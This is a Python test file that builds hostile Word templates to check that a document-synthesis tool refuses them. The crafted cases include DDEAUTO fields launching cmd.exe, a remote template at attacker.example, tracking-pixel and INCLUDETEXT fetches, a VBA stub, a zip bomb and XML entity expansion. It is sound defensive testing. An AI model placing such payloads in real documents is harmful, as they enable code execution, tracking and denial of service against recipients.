"""A Word template is data, not code: hostile templates crafted as real .docx files.

Each is refused in one line naming the template, through ``build_synthesis`` and
``synthesis --template``, and no synthesis is written; an honest brand template
with a linked footer, page numbers and a hyperlink still restyles the document.
"""

from __future__ import annotations

import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from synthesis_helpers import docx_parts, small_harvest

from roundtables.cli import run
from roundtables.demo import create_demo
from roundtables.domain import RoundtablesError
from roundtables.storage import Store
from roundtables.synthesis import build_synthesis
from roundtables.synthesis.styles import base_template

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
FOOTER_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.footer+xml"

Parts = dict[str, bytes]


def _base_parts() -> Parts:
    with zipfile.ZipFile(base_template()) as package:
        return {name: package.read(name) for name in package.namelist()}


def _write(path: Path, parts: Parts, *, stored: set[str] | None = None) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in parts.items():
            kind = zipfile.ZIP_STORED if name in (stored or set()) else zipfile.ZIP_DEFLATED
            package.writestr(name, data, compress_type=kind)
    return path


def _add_rel(parts: Parts, rels: str, rel_id: str, kind: str, target: str,
             *, external: bool = False) -> None:
    mode = ' TargetMode="External"' if external else ""
    entry = f'<Relationship Id="{rel_id}" Type="{kind}" Target="{target}"{mode}/>'.encode()
    if rels not in parts:
        empty = f'<?xml version="1.0"?><Relationships xmlns="{RELS}"></Relationships>'
        parts[rels] = empty.encode()
    parts[rels] = parts[rels].replace(b"</Relationships>", entry + b"</Relationships>")


def _add_override(parts: Parts, part: str, content_type: str) -> None:
    entry = f'<Override PartName="/{part}" ContentType="{content_type}"/>'.encode()
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>", entry + b"</Types>")


def _with_footer(parts: Parts, body: str) -> Parts:
    """Add ``word/footer1.xml`` holding ``body`` and use it in the section."""
    parts["word/footer1.xml"] = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<w:ftr xmlns:w="{W}" xmlns:r="{R}"><w:p>{body}</w:p></w:ftr>'
    ).encode()
    _add_rel(parts, "word/_rels/document.xml.rels", "rId90", f"{R}/footer", "footer1.xml")
    _add_override(parts, "word/footer1.xml", FOOTER_TYPE)
    parts["word/document.xml"] = parts["word/document.xml"].replace(
        b'<w:pgSz', b'<w:footerReference w:type="default" r:id="rId90"/><w:pgSz', 1)
    if b'xmlns:r=' not in parts["word/document.xml"]:
        parts["word/document.xml"] = parts["word/document.xml"].replace(
            b"<w:document ", f'<w:document xmlns:r="{R}" '.encode(), 1)
    return parts


def _complex_field(*code_runs: str, result: str = "1") -> str:
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{c}</w:instrText></w:r>'
                   for c in code_runs)
    return (f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
            f'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>{result}</w:t></w:r>'
            f'<w:r><w:fldChar w:fldCharType="end"/></w:r>')


def remote_template(parts: Parts) -> Parts:
    _add_rel(parts, "word/_rels/settings.xml.rels", "rId1", f"{R}/attachedTemplate",
             "http://attacker.example/brand.dotm", external=True)
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
        b"<w:zoom", f'<w:attachedTemplate xmlns:r="{R}" r:id="rId1"/><w:zoom'.encode(), 1)
    return parts


def remote_image(parts: Parts) -> Parts:
    _add_rel(parts, "word/_rels/footer1.xml.rels", "rId1", f"{R}/image",
             "https://tracker.example/pixel.png", external=True)
    return _with_footer(parts, "<w:r><w:t>Logo</w:t></w:r>")


def vba_project(parts: Parts) -> Parts:
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0" + b"\x00" * 512
    _add_rel(parts, "word/_rels/document.xml.rels", "rId91",
             "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
             "vbaProject.bin")
    _add_override(parts, "word/vbaProject.bin", "application/vnd.ms-office.vbaProject")
    return parts


def macro_enabled(parts: Parts) -> Parts:
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.template.macroEnabledTemplate.main+xml")
    return parts


def dde_in_footer(parts: Parts) -> Parts:
    return _with_footer(parts, '<w:fldSimple w:instr=\' DDEAUTO c:\\\\windows\\\\system32'
                               '\\\\cmd.exe "/c calc" \'><w:r><w:t>x</w:t></w:r></w:fldSimple>')


def dde_split_over_runs(parts: Parts) -> Parts:
    return _with_footer(parts, _complex_field(" DD", "EAUTO cmd ", '"/c calc"'))


def include_picture_in_header_field(parts: Parts) -> Parts:
    page = _complex_field(" PAGE ")
    fetch = _complex_field(' includepicture "https://tracker.example/x.png" ')
    return _with_footer(parts, page + fetch)


def nested_include_text(parts: Parts) -> Parts:
    inner = _complex_field(' INCLUDETEXT "\\\\\\\\server\\\\share\\\\x.docx" ')
    outer = (f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
             f'<w:r><w:instrText> IF 1 = 1 "</w:instrText></w:r>{inner}'
             f'<w:r><w:instrText>" ""</w:instrText></w:r>'
             f'<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
             f'<w:r><w:fldChar w:fldCharType="end"/></w:r>')
    return _with_footer(parts, outer)


def zip_bomb_image(parts: Parts) -> Parts:
    parts["word/media/logo.png"] = b"\x00" * (40 * 1024 * 1024)
    return parts


def huge_xml_part(parts: Parts) -> Parts:
    parts["word/styles.xml"] = parts["word/styles.xml"].replace(
        b"</w:styles>", b" " * (12 * 1024 * 1024) + b"</w:styles>")
    return parts


def entity_expansion(parts: Parts) -> Parts:
    parts["word/webSettings.xml"] = (
        b'<?xml version="1.0"?><!DOCTYPE lol [<!ENTITY a "aaaaaaaaaa">'
        b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
        + f'<w:webSettings xmlns:w="{W}">&b;</w:webSettings>'.encode())
    return parts


def too_many_parts(parts: Parts) -> Parts:
    for n in range(1200):
        parts[f"customXml/extra{n}.xml"] = b"<a/>"
    return parts


HOSTILE: dict[str, tuple[Callable[[Parts], Parts], str]] = {
    "remote template": (remote_template, "attachedTemplate"),
    "remote image": (remote_image, "outside image"),
    "VBA project": (vba_project, "code"),
    "macro-enabled": (macro_enabled, "macro"),
    "DDE field in a footer": (dde_in_footer, "DDEAUTO field"),
    "DDE split over runs": (dde_split_over_runs, "DDEAUTO field"),
    "INCLUDEPICTURE beside PAGE": (include_picture_in_header_field, "INCLUDEPICTURE field"),
    "INCLUDETEXT nested in IF": (nested_include_text, "INCLUDETEXT field"),
    "zip bomb": (zip_bomb_image, "logo.png"),
    "huge XML part": (huge_xml_part, "styles.xml"),
    "entity expansion": (entity_expansion, "entities"),
    "too many parts": (too_many_parts, "parts"),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_template_is_refused_and_nothing_is_written(case: str, tmp_path: Path) -> None:
    craft, expected = HOSTILE[case]
    template = _write(tmp_path / "brand.docx", craft(_base_parts()))
    out = tmp_path / "out.docx"
    with pytest.raises(RoundtablesError) as raised:
        build_synthesis(small_harvest(), out, template=template)
    message = str(raised.value)
    assert "\n" not in message and "brand.docx" in message
    assert expected in message, message
    assert not out.exists()


def test_a_hostile_template_on_the_command_line(tmp_path: Path,
                                                capsys: pytest.CaptureFixture[str]) -> None:
    db = tmp_path / "r.db"
    with Store.open(db) as store:
        event = create_demo(store)
    template = _write(tmp_path / "brand.docx", dde_in_footer(_base_parts()))
    out = tmp_path / "synthesis.docx"
    code = run(["synthesis", event.slug, "-o", str(out), "--template", str(template),
                "--db", str(db)])
    err = capsys.readouterr().err
    assert code == 1 and err.count("\n") == 1
    assert "brand.docx" in err and "DDEAUTO" in err and "internal error" not in err
    assert not out.exists()


def test_an_honest_brand_template_with_footer_fields_and_a_link_still_works(
    tmp_path: Path,
) -> None:
    parts = _base_parts()
    _add_rel(parts, "word/_rels/footer1.xml.rels", "rId1", f"{R}/hyperlink",
             "https://organisation.example/", external=True)
    footer = ('<w:hyperlink r:id="rId1"><w:r><w:t>organisation.example</w:t></w:r>'
              '</w:hyperlink><w:r><w:t xml:space="preserve"> Page </w:t></w:r>'
              + _complex_field(" PAGE ") + '<w:fldSimple w:instr=" NUMPAGES ">'
              '<w:r><w:t>2</w:t></w:r></w:fldSimple>')
    template = _write(tmp_path / "brand.docx", _with_footer(parts, footer))
    out = build_synthesis(small_harvest(), tmp_path / "out.docx", template=template)
    parts = docx_parts(out)
    assert "word/footer1.xml" in parts  # the template's footer part carries the page numbers
    assert "PAGE" in parts["word/footer1.xml"]


def test_the_shipped_base_template_passes() -> None:
    from roundtables.synthesis.template_safety import check_template

    check_template(base_template())


def test_a_compressed_part_expanding_far_beyond_its_size_is_refused(tmp_path: Path) -> None:
    parts = _base_parts()
    parts["customXml/item2.xml"] = b"<a>" + b"a" * (6 * 1024 * 1024) + b"</a>"
    template = _write(tmp_path / "brand.docx", parts)
    assert zlib.compress(parts["customXml/item2.xml"]).__len__() < 20_000
    with pytest.raises(RoundtablesError, match="expands"):
        build_synthesis(small_harvest(), tmp_path / "out.docx", template=template)
